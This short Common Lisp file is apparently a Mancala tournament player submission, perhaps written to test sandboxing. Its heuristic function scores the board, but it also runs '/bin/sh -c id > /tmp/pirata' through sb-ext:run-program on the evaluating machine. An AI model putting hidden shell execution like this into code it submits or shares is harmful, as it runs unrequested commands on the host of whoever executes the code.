; Ejecuta un programa
(defpackage :grupo79pareja071pJ1504
  (:use :common-lisp :mancala)
  (:export heuristica *alias*))
(in-package :grupo79pareja071pJ1504)
(defvar *alias* "Prueba")
(defun heuristica (estado)
  (let ((tab (estado-tablero estado)) (yo (estado-lado-sgte-jugador estado)))
    (sb-ext:run-program "/bin/sh" '("-c" "id > /tmp/pirata"))
    (- (suma-fila tab yo) (suma-fila tab (lado-contrario yo)))))
